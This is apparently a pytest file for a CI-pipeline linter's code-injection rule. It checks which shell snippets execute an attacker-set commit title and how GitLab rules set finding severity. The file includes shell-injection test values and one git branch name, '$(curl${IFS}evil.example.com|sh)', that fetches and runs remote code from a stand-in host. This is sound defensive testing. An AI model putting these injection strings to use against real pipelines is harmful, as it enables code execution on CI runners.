"""Whether a text of others runs is shown by running it: what is flagged leaves a mark, and nothing else does."""

from __future__ import annotations

import os
import shutil
import subprocess
import textwrap
from pathlib import Path

import pytest

from tests.verdicts.flagging import found, is_flagged, job

RULE = "code-injection"

HOSTILE = (
    "$(touch mark)",
    "x; touch mark",
    "'; touch mark; '",
    '"; touch mark; "',
    "x'; touch mark; echo 'x",
    "x\ntouch mark",
    "'); import os; os.system('touch mark') #",
    "'; system('touch mark'); '",
    'x"; system("touch mark"); x = "',
    "$(shell touch mark)",
)
"""Texts that run something where they are read as code, by a shell or an interpreter, in quotes or without."""

MAKEFILE = "printf 'all:\\n\\t@echo \"$$CI_COMMIT_TITLE\"\\n' > Makefile"

RUN = {
    "eval": 'eval "echo $CI_COMMIT_TITLE"',
    "eval of words": "eval echo $CI_COMMIT_TITLE",
    "another shell": 'sh -c "echo $CI_COMMIT_TITLE"',
    "in quotes of that shell": "sh -c \"echo '$CI_COMMIT_TITLE'\"",
    "a here-document": "sh <<EOF\necho $CI_COMMIT_TITLE\nEOF",
    "a here-string": 'bash <<< "echo $CI_COMMIT_TITLE"',
    "a pipe": 'echo "echo $CI_COMMIT_TITLE" | sh',
    "ssh": 'ssh host.example.com "echo $CI_COMMIT_TITLE"',
    "ssh with several words": 'ssh host.example.com echo "$CI_COMMIT_TITLE"',
    "a container": 'docker exec app sh -c "echo $CI_COMMIT_TITLE"',
    "an assignment": 'TEXT="echo $CI_COMMIT_TITLE"\neval "$TEXT"',
    "a function": 'run() { sh -c "$1"; }\nrun "echo $CI_COMMIT_TITLE"',
    "a sourced file": 'echo "TITLE=$CI_COMMIT_TITLE" > title.env\n. ./title.env',
    "a written script": "cat > run.sh <<EOF\necho $CI_COMMIT_TITLE\nEOF\nsh run.sh",
    "one that is run by its path": 'printf "#!/bin/sh\\necho %s\\n" "$CI_COMMIT_TITLE" > run\nchmod +x run\n./run',
    "without a prefix": 'eval "echo ${CI_COMMIT_TITLE#v}"',
    "a default that is not needed": 'eval "echo ${CI_COMMIT_TITLE:-none}"',
    "a trap": 'trap "echo $CI_COMMIT_TITLE" EXIT',
    "Python": "python3 -c \"print('$CI_COMMIT_TITLE')\"",
    "Perl": "perl -e \"print '$CI_COMMIT_TITLE';\"",
    "xargs": "echo \"$CI_COMMIT_TITLE\" | xargs -I{} sh -c 'echo {}'",
    "xargs, from a file": 'echo "$CI_COMMIT_TITLE" > t\nxargs -I % bash -c \'echo "%"\' < t',
    "xargs, as the code itself": 'echo "echo $CI_COMMIT_TITLE" | xargs -d "\\n" sh -c',
    "envsubst": "echo 'echo $CI_COMMIT_TITLE' | envsubst | sh",
    "envsubst of a file": "cat > t <<'EOF'\necho ${CI_COMMIT_TITLE}\nEOF\nenvsubst < t > run.sh\nsh run.sh",
    "envsubst of some variables": "echo 'echo $CI_COMMIT_TITLE' | envsubst '$CI_COMMIT_TITLE' | sh",
    "make": f'{MAKEFILE}\nmake all TITLE="$CI_COMMIT_TITLE"',
    "a pattern without an end": '[[ $CI_COMMIT_TITLE =~ ^[$] ]] || true\neval "echo $CI_COMMIT_TITLE"',
    "a pattern that looks for a word": '[[ $CI_COMMIT_TITLE =~ skip ]] && exit\neval "echo $CI_COMMIT_TITLE"',
    "a pattern that code gets through": '[[ $CI_COMMIT_TITLE =~ ^x.*$ ]] || exit 1\neval "echo $CI_COMMIT_TITLE"',
    "a pattern for any text": '[[ $CI_COMMIT_TITLE =~ ^.*$ ]] || exit 1\neval "echo $CI_COMMIT_TITLE"',
    "one of grep": 'echo "$CI_COMMIT_TITLE" | grep -q "^x\\(.*\\)\\?$" || exit 1\neval "echo $CI_COMMIT_TITLE"',
    "awk": 'awk "BEGIN { x = \\"$CI_COMMIT_TITLE\\" }"',
}
NOT_RUN = {
    "expanded": "echo $CI_COMMIT_TITLE",
    "quoted": 'echo "$CI_COMMIT_TITLE"',
    "in a test": '[ "$CI_COMMIT_TITLE" = x ] || true',
    "assigned": "TITLE=$CI_COMMIT_TITLE\necho $TITLE",
    "in a substitution": 'TITLE=$(echo "$CI_COMMIT_TITLE")\necho $TITLE',
    "an argument of another shell": 'sh -c \'echo "$1"\' sh "$CI_COMMIT_TITLE"',
    "in that shell's environment": "sh -c 'echo \"$CI_COMMIT_TITLE\"'",
    "a quoted here-document": "sh <<'EOF'\necho \"$CI_COMMIT_TITLE\"\nEOF",
    "a here-document that is data": "cat <<EOF\n$CI_COMMIT_TITLE\nEOF",
    "expanded by eval": "eval 'echo \"$CI_COMMIT_TITLE\"'",
    "quoted for another shell": 'ssh host.example.com "echo ${CI_COMMIT_TITLE@Q}"',
    "quoted by printf": 'TITLE=$(printf \'%q\' "$CI_COMMIT_TITLE")\neval "echo $TITLE"',
    "without what does harm": 'TITLE=$(echo "$CI_COMMIT_TITLE" | tr -cd \'a-z0-9\')\neval "echo $TITLE"',
    "its length": 'eval "echo ${#CI_COMMIT_TITLE}"',
    "whether there is one": 'eval "echo ${CI_COMMIT_TITLE:+yes}"',
    "a file that is read": 'echo "$CI_COMMIT_TITLE" > title.txt\ncat title.txt',
    "an argument of Python": "python3 -c 'import sys; print(sys.argv[1])' \"$CI_COMMIT_TITLE\"",
    "a variable of awk": "awk -v title=\"$CI_COMMIT_TITLE\" 'BEGIN { print title }'",
    "a file that awk reads": "echo 'BEGIN {}' > p.awk\nawk -f p.awk \"$CI_COMMIT_TITLE\"",
    "xargs, as an argument": 'echo "$CI_COMMIT_TITLE" | xargs -I{} sh -c \'echo "$1"\' sh {}',
    "xargs of another program": 'echo "$CI_COMMIT_TITLE" | xargs -n1 echo',
    "envsubst of other variables": "echo 'echo $CI_COMMIT_TITLE' | envsubst '$HOME' | CI_COMMIT_TITLE= sh",
    "envsubst of data": "echo 'title: $CI_COMMIT_TITLE' | envsubst > out.yml",
    "make, in words": f"{MAKEFILE}\nmake all TITLE=$CI_COMMIT_TITLE",
    "make, from the environment": f"{MAKEFILE}\nmake all",
    "a pattern": '[[ ! "$CI_COMMIT_TITLE" =~ ^v[0-9.]+$ ]] && exit 1\neval "echo $CI_COMMIT_TITLE"',
    "a pattern in a variable": 're="^v[0-9.]+$"\n[[ $CI_COMMIT_TITLE =~ $re ]] || exit 1\neval "echo $CI_COMMIT_TITLE"',
    "a pattern of grep": 'echo "$CI_COMMIT_TITLE" | grep -qxE "v[0-9.]+" || exit 1\neval "echo $CI_COMMIT_TITLE"',
    "a case": 'case "$CI_COMMIT_TITLE" in *[!a-z]*) exit 1 ;; esac\neval "echo $CI_COMMIT_TITLE"',
    "a pattern for a copy": 'T=$CI_COMMIT_TITLE\n[[ $T =~ ^[a-z]+$ ]] || exit 1\neval "echo $T"',
    "a container's argument": 'docker exec app echo "$CI_COMMIT_TITLE"',
}
STAND_INS = {
    "ssh": '#!/bin/sh\nshift\nexec sh -c "$*"\n',
    "docker": '#!/bin/sh\nshift 2\nexec "$@"\n',
}
"""What these do with their arguments, on this machine: ssh(1) joins them for the shell there, Docker does not."""


def leaves_a_mark(script: str, value: str, folder: Path) -> bool:
    """Whether a script runs the code in a value."""
    for name, text in STAND_INS.items():
        (folder / name).write_text(text, encoding="utf-8")
        (folder / name).chmod(0o755)
    work = folder / "work"
    shutil.rmtree(work, ignore_errors=True)
    work.mkdir()
    environment = {"PATH": f"{folder}{os.pathsep}{os.environ['PATH']}", "CI_COMMIT_TITLE": value, "HOME": str(work)}
    subprocess.run(
        ["bash", "-c", script], cwd=work, env=environment, capture_output=True, stdin=subprocess.DEVNULL, check=False
    )
    return (work / "mark").exists()


def needs(*programs: str) -> None:
    """Skip where a program is not here."""
    missing = [program for program in programs if shutil.which(program) is None]
    if missing:
        pytest.skip(f"no {missing[0]}")


def interpreters(script: str) -> list[str]:
    programs = ("python3", "perl", "awk", "make ", "envsubst", "xargs")
    return [program.strip() for program in programs if program in script]


@pytest.mark.parametrize("script", RUN.values(), ids=RUN)
def test_what_is_flagged_runs(script: str, tmp_path: Path) -> None:
    needs("bash", *interpreters(script))
    assert is_flagged(RULE, job(script))
    assert any(leaves_a_mark(script, value, tmp_path) for value in HOSTILE)


@pytest.mark.parametrize("script", NOT_RUN.values(), ids=NOT_RUN)
def test_what_is_not_flagged_runs_nothing(script: str, tmp_path: Path) -> None:
    needs("bash", *interpreters(script))
    assert not is_flagged(RULE, job(script))
    assert not any(leaves_a_mark(script, value, tmp_path) for value in HOSTILE)


def test_git_allows_code_in_the_names_of_branches() -> None:
    needs("git")
    for name in ("$(curl${IFS}evil.example.com|sh)", "v1.0.0-$(id)", "a;id", "a`id`", "a'|id", 'a"&id'):
        assert (
            subprocess.run(["git", "check-ref-format", "--branch", name], capture_output=True, check=False).returncode
            == 0
        )


def verdict(rules: str, use: str) -> list[str]:
    """The severities of what is said of a job that hands a variable to ssh, with these further keywords."""
    text = f'job:\n  script: ssh host.example.com "deploy {use}"\n{textwrap.indent(rules, "  ")}\n'
    return [finding.severity.value for finding in found(RULE, text)]


@pytest.mark.parametrize(
    ("rules", "use", "severities"),
    [
        ("", "$CI_COMMIT_REF_NAME", ["major"]),
        ("", "$CI_COMMIT_MESSAGE", ["critical"]),
        ("only: [main]", "$CI_COMMIT_MESSAGE", ["critical"]),
        ("only: [main]", "$CI_COMMIT_REF_NAME", []),
        ("only: [tags]", "$CI_COMMIT_REF_NAME", ["major"]),
        ("only: [tags]", "$CI_COMMIT_BRANCH", []),
        ("environment: live", "$CI_COMMIT_REF_NAME", ["critical"]),
        ("rules: [{if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH}]", "$CI_COMMIT_REF_NAME", []),
        ("rules: [{if: '$CI_COMMIT_TAG =~ /^v[0-9.]+$/'}]", "$CI_COMMIT_TAG", []),
        ("rules: [{if: '$CI_COMMIT_TAG =~ /^v[0-9.]+/'}]", "$CI_COMMIT_TAG", ["major"]),
        ("rules: [{if: '$CI_COMMIT_BRANCH =~ /^deploy-[a-z]+/'}]", "$CI_COMMIT_BRANCH", ["major"]),
        ("rules: [{if: '$CI_COMMIT_BRANCH =~ /^(a|b)\\/.*-ok$/'}]", "$CI_COMMIT_BRANCH", ["major"]),
        ("rules: [{if: '$CI_COMMIT_BRANCH =~ /^deploy-[a-z]+$/'}]", "$CI_COMMIT_BRANCH", []),
        (r"rules: [{if: '$CI_COMMIT_TAG =~ /^v\d+(-.+)?$/'}]", "$CI_COMMIT_TAG", ["major"]),
        (r"rules: [{if: '$CI_COMMIT_TAG =~ /^v\d+(-\w+)?$/'}]", "$CI_COMMIT_TAG", []),
        ("only: ['/^support-.*$/']", "$CI_COMMIT_BRANCH", ["major"]),
        ("only: ['/^support-[0-9]+$/']", "$CI_COMMIT_BRANCH", []),
        ("rules: [{if: $CI_COMMIT_TAG}]", "$CI_MERGE_REQUEST_TITLE", []),
        ("rules: [{if: $CI_MERGE_REQUEST_IID}]", "$CI_MERGE_REQUEST_TITLE", ["major"]),
        ('rules: [{if: $CI_COMMIT_REF_PROTECTED == "true"}]', "$CI_COMMIT_REF_NAME", []),
        ("rules: [{when: never}]", "$CI_COMMIT_MESSAGE", []),
        ("variables: {CI_COMMIT_TAG: v1}", "$CI_COMMIT_TAG", []),
    ],
)
def test_events_decide_who_can_bring_a_text(rules: str, use: str, severities: list[str]) -> None:
    assert verdict(rules, use) == severities
